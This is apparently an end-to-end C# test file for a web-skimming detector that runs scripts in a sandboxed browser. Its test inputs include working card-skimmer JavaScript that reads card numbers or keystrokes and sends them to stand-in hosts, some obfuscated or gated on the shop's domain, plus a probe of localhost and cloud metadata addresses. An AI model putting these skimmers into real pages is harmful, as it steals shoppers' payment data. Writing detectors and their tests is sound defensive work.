using System.Net;
using System.Net.Sockets;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Options;
using PageShield.Crawler;
using PageShield.Crawler.Browsers;
using PageShield.Crawler.Detonation;
using PageShield.Detection;
using PageShield.Detection.Detonation;

namespace PageShield.EndToEndTests.Detonation;

/// <summary>The chamber with a real Chromium: what scripts of our own writing do on its shops.</summary>
public sealed class DetonatorTests : IAsyncDisposable
{
    private readonly Detonator _detonator = new(new BrowserFinder(NullLogger<BrowserFinder>.Instance), Options.Create(new CrawlerOptions()));

    private static CancellationToken Now => TestContext.Current.CancellationToken;

    public async ValueTask DisposeAsync() => await _detonator.DisposeAsync();

    [Theory]
    // Waits, and hides its host and its payload.
    [InlineData("setTimeout(function () { setInterval(function () { var f = document.querySelector('[name=\"payment[cc_number]\"]'); if (f && f.value.length > 14) new Image().src = 'https://' + ['cdn', 'drop', 'example'].join('-') + '.test/p.gif?d=' + btoa(f.value); }, 900); }, 5000);")]
    // The shop's own jQuery, on the button of Magento 1.
    [InlineData("jQuery(function ($) { $('#onestepcheckout-place-order').on('click', function () { $.ajax({ url: 'https://cdn-drop-example.test/g.php', type: 'POST', data: $('#co-payment-form').serialize() }); }); });")]
    // Keys, through a socket.
    [InlineData("var s = new WebSocket('wss://cdn-drop-example.test/k'), t = ''; document.addEventListener('keydown', function (e) { if (e.target.id === 'cc_number' || e.target.id === 'ccsave_cc_number') { t += e.key; if (t.length > 15) s.send(t); } });")]
    // A fragment of a page.
    [InlineData("<!-- tag --><script>document.addEventListener('submit', function (e) { navigator.sendBeacon('https://cdn-drop-example.test/b', new FormData(e.target)); }, true);</script>")]
    public async Task A_card_number_that_leaves_is_seen_with_the_fields_that_were_read(string source)
    {
        var script = new ScriptInput { Source = source };

        var report = await _detonator.DetonateAsync(script, Now);

        Assert.Contains(report.Requests, request => request is { Canary: "cc-number", Host: "cdn-drop-example.test" });
        var finding = Assert.Single(DetonationEvidence.OpinionOf(report, script).Findings, finding => finding.Rule == "detonation-exfiltration");
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("cdn-drop-example.test", finding.Title, StringComparison.Ordinal);
    }

    [Theory]
    // Checks what was typed and tells the visitor.
    [InlineData("document.addEventListener('change', function (e) { if (/card|cc_number/.test(e.target.name)) e.target.setCustomValidity(/^[0-9 ]{13,19}$/.test(e.target.value) ? '' : 'wrong'); });")]
    // Counts visits elsewhere.
    [InlineData("new Image().src = 'https://stats.example/hit.gif?u=' + encodeURIComponent(location.pathname);")]
    [InlineData("while (true) { }")]
    [InlineData("this is no script at all")]
    public async Task Honest_hanging_and_broken_scripts_give_no_evidence(string source)
    {
        var script = new ScriptInput { Source = source };

        var report = await _detonator.DetonateAsync(script, Now);

        Assert.Empty(DetonationEvidence.OpinionOf(report, script).Findings);
    }

    private const string Count = "(function (w, d) { var m = {}; ['focusin', 'focusout', 'keydown', 'change'].forEach(function (t) { d.addEventListener(t, function (e) { var f = e.target; if (!f || !f.name) return; var r = m[f.name] || (m[f.name] = { keys: 0, ms: 0, len: 0 }); if (t === 'keydown') r.keys++; if (t === 'change') r.len = f.value.length; }, true); }); setInterval(function () { SEND }, 2000); })(window, document);";

    [Theory]
    [InlineData("navigator.sendBeacon('https://in.form-numbers.test/v2', JSON.stringify({ u: location.pathname, m: m }))")]
    [InlineData("fetch('https://in.form-numbers.test/v2', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify({ ua: navigator.userAgent, m: m })) })")]
    [InlineData("new Image().src = 'https://in.form-numbers.test/p?m=' + encodeURIComponent(JSON.stringify(m))")]
    [InlineData("navigator.sendBeacon('https://in.form-numbers.test/r', JSON.stringify({ events: [].map.call(d.querySelectorAll('input'), function (i) { return { name: i.name, text: i.value.replace(/./g, '*') } }) }))")]
    public async Task Counts_and_masked_values_of_card_fields_are_no_theft(string send)
    {
        var script = new ScriptInput { Source = Count.Replace("SEND", send, StringComparison.Ordinal) };

        var report = await _detonator.DetonateAsync(script, Now);

        Assert.Contains(report.Requests, static request => request.Host == "in.form-numbers.test");
        Assert.Contains(report.Reads, static read => read.Purpose == "cc-number");
        Assert.DoesNotContain(DetonationEvidence.OpinionOf(report, script).Findings, static finding => finding.Weight > 0);
    }

    [Fact]
    public async Task Encrypted_fields_are_seen_to_leave()
    {
        const string Source = """
            document.addEventListener('change', function () { var t = ''; document.querySelectorAll('input').forEach(function (f) { t += f.name + '=' + f.value + ';' });
            var o = '', k = 90; for (var i = 0; i < t.length; i++) { k = (k * 75 + 74) % 65537; o += String.fromCharCode(t.charCodeAt(i) ^ (k & 255)) } navigator.sendBeacon('https://drop-box-9.test/b', btoa(o)); }, true);
            """;
        var script = new ScriptInput { Source = Source };

        var report = await _detonator.DetonateAsync(script, Now);

        Assert.Contains(DetonationEvidence.OpinionOf(report, script).Findings,
            static finding => finding is { Rule: "detonation-sealed-payload", Weight: >= 5.2 });
    }

    private const string Theft = "document.addEventListener('change', function () { var o = ''; document.querySelectorAll('input').forEach(function (f) { o += f.value + '|' }); new Image().src = 'https://drop-box-9.test/p.gif?d=' + btoa(o) }, true);";

    [Theory]
    [InlineData("if (location.host.indexOf('tea-shop.test') < 0) return;")]
    [InlineData("if (location.hostname !== 'tea-shop.test') return;")]
    [InlineData("if (!/(^|\\.)tea-shop\\.test$/.test(location.hostname)) return;")]
    [InlineData("if (!location.href.match('tea-shop')) return;")]
    [InlineData("if (document.domain != atob('dGVhLXNob3AudGVzdA==')) return;")]
    [InlineData("if (!location.hostname.endsWith('.tea-shop.test')) return;")]
    [InlineData("if (location.pathname.indexOf('/kasse/') < 0) return;")]
    public async Task A_script_that_asks_for_a_place_is_run_there(string gate)
    {
        var script = new ScriptInput { Source = $"(function () {{ {gate} {Theft} }})();" };

        var report = await _detonator.DetonateAsync(script, Now);

        Assert.Contains(report.Requests, static request => request is { Canary: "cc-number", Host: "drop-box-9.test" });
    }

    [Theory]
    [InlineData("if (location.host === 'tea-shop.test') return;", false)]
    [InlineData("if (location.host.length !== 211) return;", true)]
    public async Task What_ran_nowhere_is_told(string gate, bool neverRan)
    {
        var source = $"(function () {{ {gate} window.tea = 1; window.cups = [1, 2, 3].map(function (n) {{ return n * 2; }}); }})();";

        var report = await _detonator.DetonateAsync(new ScriptInput { Source = source }, Now);

        Assert.Null(report.Incomplete);
        Assert.Equal(neverRan, report.NeverRan(source.IndexOf("window.tea", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task Nothing_reaches_the_machine_that_it_runs_on()
    {
        using var listener = new TcpListener(IPAddress.Any, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var source = $$"""
            var to = ['http://127.0.0.1:{{port}}/', 'http://localhost:{{port}}/', 'http://[::1]:{{port}}/', 'http://169.254.169.254:{{port}}/'];
            to.forEach(function (u) {
                fetch(u + 'fetch', { mode: 'no-cors' }); new Image().src = u + 'image'; navigator.sendBeacon(u + 'beacon', 'x');
                var f = document.createElement('iframe'); f.src = u + 'frame'; document.body.appendChild(f);
                var s = document.createElement('script'); s.src = u + 'script'; document.head.appendChild(s);
                new Worker(URL.createObjectURL(new Blob(['fetch("' + u + 'worker"); importScripts("' + u + 'import");'])));
            });
            """;

        var report = await _detonator.DetonateAsync(new ScriptInput { Source = source }, Now);

        Assert.False(listener.Pending());
        Assert.Contains(report.Requests, request => request.Channel is "fetch" or "xhr" && request.Host == "127.0.0.1");
        Assert.True(!OperatingSystem.IsLinux() || !Environment.IsPrivilegedProcess || report.Isolated);
    }
}
